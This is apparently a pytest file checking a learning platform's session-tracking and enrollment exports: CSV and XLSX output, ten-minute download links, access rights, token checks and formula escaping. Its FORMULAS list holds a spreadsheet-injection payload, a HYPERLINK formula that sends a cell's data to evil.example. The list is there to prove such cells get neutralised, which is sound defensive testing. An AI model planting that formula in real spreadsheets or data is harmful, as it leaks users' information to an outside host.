"""Exports: exportTracking and exportEnrollments answer a download URL, valid ten minutes, for the
user who asked while they may still read the session; CSV and XLSX with no cell read as a formula;
the enrollments export imports back unchanged."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import delete, select, update

from sessiongraph import models
from sessiongraph.infrastructure.tokens import issue_token
from tests.imports_support import import_csv, snapshot
from tests.sized_data import gid, sized  # noqa: F401

ADMIN_DOCUMENTS = Path(__file__).resolve().parent.parent / "clients" / "admin"
EXPORT_TRACKING = (ADMIN_DOCUMENTS / "export_tracking.graphql").read_text()
EXPORT_ENROLLMENTS = (ADMIN_DOCUMENTS / "export_enrollments.graphql").read_text()
DOCUMENTS = {"tracking": (EXPORT_TRACKING, "exportTracking"), "enrollments": (EXPORT_ENROLLMENTS, "exportEnrollments")}

TRACKING = """
query($id: ID!) { node(id: $id) { ... on Session { tracking(first: 100) { learners { edges { node {
  learner { name email } booked attended late absent excused attendanceRate lastAttendedAt
} } } } } } }"""

# What a spreadsheet would run, and each other character that starts a formula.
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+1+2", "-3+4", "@SUM(A1)", "\tTab", "\rReturn"]


async def export(caller, kind: str, session_id: str, file_format: str = "CSV") -> dict[str, Any]:
    document, field = DOCUMENTS[kind]
    return (await caller(document, input={"sessionId": session_id, "format": file_format}))[field]


async def download(http, url: str, **headers: str):
    return await http.get(url.removeprefix("http://test"), headers=headers)


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_rows(content: bytes) -> list[list[Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content), read_only=True).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert kinds <= {"s", "n"}, kinds  # text and numbers only: never a formula ("f")
    return rows


@pytest.fixture
async def cohort(sized):
    """A session with 4 learners (reports on 3 live sessions), its coach and course coaches."""
    return await sized.session_with_people(4)


async def test_an_admin_downloads_the_tracking_as_csv_and_xlsx_matching_the_tracking_field(admin, http, cohort):
    expected = [[row["learner"]["name"], row["learner"]["email"], row["booked"], row["attended"], row["late"],
                 row["absent"], row["excused"], row["attendanceRate"], row["lastAttendedAt"]]
                for row in (edge["node"] for edge in (await admin(TRACKING, id=gid(cohort.session)))
                            ["node"]["tracking"]["learners"]["edges"])]
    header = ["learner", "email", "booked", "attended", "late", "absent", "excused", "attendance_rate",
              "last_attended_at"]

    # CSV
    payload = await export(admin, "tracking", gid(cohort.session))
    assert payload["errors"] == [] and payload["url"].startswith("http://test/exports/")
    response = await download(http, payload["url"])
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == f'attachment; filename="tracking-session-{cohort.session.id}.csv"'
    rows = csv_rows(response.content)
    assert rows[0] == header
    assert rows[1:] == [["" if v is None else str(round(v, 4) if isinstance(v, float) else v) for v in row]
                        for row in expected]
    assert len(rows) == 5 and any(row[3] != "0" for row in rows[1:])  # figures, not just names

    # XLSX
    payload = await export(admin, "tracking", gid(cohort.session), "XLSX")
    response = await download(http, payload["url"])
    assert response.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    rows = xlsx_rows(response.content)
    assert rows[0] == header
    assert rows[1:] == [[round(v, 4) if isinstance(v, float) else v for v in row] for row in expected]


async def test_the_url_lives_ten_minutes(admin, http, clock, cohort):
    payload = await export(admin, "tracking", gid(cohort.session))
    assert payload["expiresAt"] == (clock.now() + timedelta(minutes=10)).isoformat()

    clock.advance(minutes=9, seconds=59)
    assert (await download(http, payload["url"])).status_code == 200
    clock.advance(seconds=1)
    response = await download(http, payload["url"])

    assert response.status_code == 410
    assert response.json()["errors"][0]["extensions"]["code"] == "EXPORT_EXPIRED"


@pytest.mark.parametrize("file_format", ["CSV", "XLSX"])
async def test_cells_that_would_be_formulas_are_written_with_a_leading_apostrophe(admin, http, database, cohort,
                                                                                  file_format):
    # given: learners named as formulas
    async with database.write() as db:
        for learner, name in zip(cohort.learners, FORMULAS, strict=False):
            await db.execute(update(models.User).where(models.User.id == learner.id).values(name=name))

    # when
    payload = await export(admin, "tracking", gid(cohort.session), file_format)
    content = (await download(http, payload["url"])).content

    # then
    names = [row[0] for row in (csv_rows if file_format == "CSV" else xlsx_rows)(content)[1:]]
    assert sorted(names) == sorted("'" + formula for formula in FORMULAS[:4])
    assert '\'=HYPERLINK("http://evil.example/?leak="&A2,"Click")' in names


async def test_the_enrollments_export_imports_back_unchanged(admin, http, database, cohort):
    # given: a session whose name and one learner's address start with formula characters
    async with database.write() as db:
        await db.execute(update(models.Session).where(models.Session.id == cohort.session.id)
                         .values(name="=Spring cohort"))
        await db.execute(update(models.User).where(models.User.id == cohort.learners[0].id)
                         .values(email="-dash@example.org"))
    before = await snapshot(database)
    payload = await export(admin, "enrollments", gid(cohort.session))
    content = (await download(http, payload["url"])).content
    rows = csv_rows(content)
    assert rows[0] == ["session", "email", "role"]
    assert ["'=Spring cohort", "'-dash@example.org", "learner"] in rows
    assert sum(row[2].startswith("course_coach:") for row in rows) == 8  # 4 courses, 2 coaches each

    # when: imported again as it is
    again = await import_csv(admin, content)

    # then: nothing to do
    assert (again["created"], again["updated"], again["alreadyEnrolled"], again["errors"]) == (0, 0, 12, [])
    assert await snapshot(database) == before

    # and into a session emptied of its people, it puts every one of them back
    async with database.write() as db:
        await db.execute(delete(models.Enrollment))
        await db.execute(delete(models.SessionCourseCoach))
    restored = await import_csv(admin, content)
    assert (restored["created"], restored["errors"]) == (12, [])
    after = await snapshot(database)
    assert after["session_course_coach"] == before["session_course_coach"]
    assert [row[:2] for row in after["enrollment"]] == [row[:2] for row in before["enrollment"]]


async def test_the_session_coach_may_export_and_learners_may_not(caller, http, cohort):
    coach, learner = caller(cohort.coaches[0]), caller(cohort.learners[0])

    allowed = await export(coach, "enrollments", gid(cohort.session))
    refused = await export(learner, "tracking", gid(cohort.session))

    assert (await download(http, allowed["url"])).status_code == 200
    assert refused == {"url": None, "expiresAt": None,
                       "errors": [{"field": ["sessionId"], "code": "NOT_FOUND", "message": "No such session."}]}


async def test_anonymous_callers_and_unknown_sessions_are_refused(anonymous, admin, cohort):
    body = await anonymous.execute(EXPORT_TRACKING, input={"sessionId": gid(cohort.session), "format": "CSV"})
    unknown = await export(admin, "tracking", gid(cohort.courses[0]))

    assert body["errors"][0]["extensions"]["code"] == "UNAUTHENTICATED"
    assert [e["code"] for e in unknown["errors"]] == ["NOT_FOUND"] and unknown["url"] is None


async def test_the_rights_are_checked_again_at_download(caller, http, database, clock, cohort, make_user):
    # given: a URL asked for by an admin who is then demoted
    boss = await make_user("Boss", is_admin=True)
    payload = await export(caller(boss), "tracking", gid(cohort.session))
    async with database.write() as db:
        await db.execute(update(models.User).where(models.User.id == boss.id).values(is_admin=False))

    response = await download(http, payload["url"])

    assert response.status_code == 404
    assert response.json()["errors"][0]["extensions"]["code"] == "NOT_FOUND"


async def test_a_bearer_token_sent_with_the_download_must_be_the_askers(admin, http, settings, clock, cohort):
    payload = await export(admin, "tracking", gid(cohort.session))
    other = issue_token(cohort.learners[0].id, settings, clock.now())
    own = issue_token(admin.user.id, settings, clock.now())

    assert (await download(http, payload["url"], authorization=f"Bearer {other}")).status_code == 403
    assert (await download(http, payload["url"], authorization=f"Bearer {own}")).status_code == 200


async def test_a_forged_or_altered_url_is_not_found_and_a_ticket_is_no_bearer_token(admin, http, cohort):
    url = (await export(admin, "tracking", gid(cohort.session)))["url"]
    ticket = url.rsplit("/", 1)[1]
    header, claims, signature = ticket.split(".")
    forged = f"{header}.{claims}.{signature[:-2]}{'AA' if not signature.endswith('AA') else 'BB'}"

    assert (await download(http, url.replace(ticket, forged))).status_code == 404
    assert (await download(http, url.replace(ticket, "nonsense"))).status_code == 404
    as_bearer = await http.post("/graphql", json={"query": "{ viewer { user { id } } }"},
                                headers={"Authorization": f"Bearer {ticket}"})
    assert as_bearer.status_code == 401


async def test_refused_exports_write_nothing(caller, database, cohort):
    before = await snapshot(database)
    async with database.read() as db:
        users = (await db.execute(select(models.User.id))).all()

    await export(caller(cohort.learners[0]), "enrollments", gid(cohort.session))

    assert await snapshot(database) == before and users
